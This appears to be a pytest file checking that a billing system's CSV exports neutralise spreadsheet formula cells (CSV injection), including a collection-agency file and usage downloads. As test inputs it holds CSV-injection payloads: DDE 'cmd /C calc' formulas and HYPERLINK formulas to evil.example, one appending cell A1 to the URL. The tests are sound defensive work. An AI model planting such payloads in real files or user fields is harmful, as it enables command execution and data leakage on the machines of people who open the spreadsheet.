"""CSV exports people open in a spreadsheet neutralise formula cells (OWASP "CSV Injection"), issue 14."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from backend_stub.core import Core
from backend_stub.services.lifecycle import dunning, ledger
from backend_stub.services.lifecycle.lifecycle_config import LifecycleConfig
from selfcare_common.csv_export import neutralise_cell, spreadsheet_writer
from tests.lifecycle_support import bill_october, set_customer


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example","Klicka")', '\'=HYPERLINK("http://evil.example","Klicka")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("-A1", "'-A1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+46 70 -1", "'+46 70 -1"),
    ],
)
def test_formula_cells_are_quoted(cell: str, written: str) -> None:
    assert neutralise_cell(cell) == written


@pytest.mark.parametrize(
    "cell",
    [
        "Anna Andersson",
        "",
        "a=b",
        " =1",
        "Storgatan 1",
        "anna@example.se",
        "-1250",
        "-12,50",
        "-12.50",
        "-12,50\u00a0kr",
        "-1\u00a0234,50 kr",
        "+46701234567",
        "-5 %",
        -1250,
        0,
        Decimal("-12.50"),
        None,
    ],
)
def test_text_and_numbers_stay_as_they_are(cell) -> None:
    """Plain text, and numbers (also a negative amount, as a number or as formatted text) are not touched:
    a number cannot run anything, and a spreadsheet still adds a negative amount up."""
    assert neutralise_cell(cell) == cell


def test_the_writer_neutralises_every_row() -> None:
    buf = io.StringIO()
    w = spreadsheet_writer(buf, delimiter=";", lineterminator="\n")
    w.writerow(["name", "amount_ore"])
    w.writerows([["=2*3", -1250], ["@x", 99]])
    assert list(csv.reader(io.StringIO(buf.getvalue()), delimiter=";")) == [
        ["name", "amount_ore"],
        ["'=2*3", "-1250"],
        ["'@x", "99"],
    ]


def test_the_collection_handover_neutralises_what_customers_typed(core: Core, tmp_path: Path) -> None:
    """The collection agency's CSV: a customer's name, street and city are theirs to type."""
    invs = bill_october(core)
    set_customer(core, "K1", name='=HYPERLINK("http://evil.example/?"&A1,"Öppna")', street="@SUM(1+1)", city="-2+3")
    with core.engine.begin() as conn:  # K2 has paid: only K1 is handed over
        assert ledger.record_payment(
            conn,
            invoice_id=invs["K2"].id,
            reference="k2-paid",
            method="bankgiro",
            amount_ore=invs["K2"].amount_due_ore,
            received_at=datetime(2026, 11, 20, 12, tzinfo=UTC),
        )
    cfg = LifecycleConfig(print_dir=tmp_path / "print", collection_dir=tmp_path / "inkasso")
    result = None
    for day in (date(2026, 12, 2), date(2026, 12, 11), date(2026, 12, 25), date(2027, 1, 15)):
        result = dunning.run_dunning(core.engine, cfg, today=day)
    assert result is not None and result.collection == 1 and result.collection_file
    with open(result.collection_file, encoding="utf-8", newline="") as fh:
        [row] = list(csv.DictReader(fh))
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Öppna")'
    assert (row["street"], row["city"]) == ("'@SUM(1+1)", "'-2+3")
    assert row["customer_number"] == "K1" and int(row["balance_ore"]) > 0  # numbers stay numbers


def test_the_usage_download_neutralises_descriptions_and_keeps_amounts() -> None:
    from selfcare.state.usage import usage_csv

    records = [
        {
            "service": "sms",
            "started_at": "2026-11-03T10:00:00+01:00",
            "called_number": "+46701234567",
            "description": "=cmd|' /C calc'!A0",
            "category": "domestic",
            "cost_ore": -1250,
        },
        {
            "service": "sms",
            "started_at": "2026-11-04T10:00:00+01:00",
            "called_number": "@evil",
            "description": "SMS",
            "category": "domestic",
            "cost_ore": 150,
        },
    ]
    rows = list(csv.reader(io.StringIO(usage_csv(records, "sv")), delimiter=";"))
    assert rows[1][2] == "'=cmd|' /C calc'!A0"
    assert rows[1][3] == "+46701234567" and rows[1][6] == "-12,50\u00a0kr"  # a number, and a negative amount
    assert rows[2][3] == "'@evil"
